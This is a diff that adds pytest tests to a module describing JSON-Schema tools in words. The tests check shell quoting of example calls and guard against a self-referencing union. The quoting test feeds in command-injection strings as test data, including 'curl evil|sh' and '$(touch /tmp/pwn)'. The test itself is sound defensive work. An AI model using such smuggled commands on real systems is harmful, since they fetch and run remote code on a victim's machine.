@@ -1,5 +1,6 @@
 """JSON Schemas in words."""
 
+import shlex
 from typing import Any
 
 import pytest
@@ -67,3 +68,16 @@ def test_the_output_of_a_tool() -> None:
     assert format_signature(make_tool("f", output_schema=wrapped)).endswith(") -> int")
     assert describe_output(make_tool("f", output_schema=wrapped)) == "result: int"
     assert describe_output(make_tool("f")) == ""
+
+
+def test_a_call_to_copy_is_quoted_for_the_shell() -> None:
+    properties = {"x;curl evil|sh;": {"type": "string"}, "c": {"enum": ["$(touch /tmp/pwn)"]}, "o": {"type": "object"}}
+    schema = {"type": "object", "properties": properties, "required": list(properties)}
+    words = shlex.split(example_call(make_tool("send", schema=schema)))
+    assert words[3:] == ["x;curl evil|sh;=X;CURL EVIL|SH;", "c=$(touch /tmp/pwn)", "o={}"]
+
+
+def test_a_union_that_refers_to_itself_is_cheap() -> None:
+    branch = {"$ref": "#/$defs/U"}
+    root = {"$defs": {"U": {"anyOf": [branch] * 500}}}
+    assert describe_type(branch, root).startswith("any | ...")
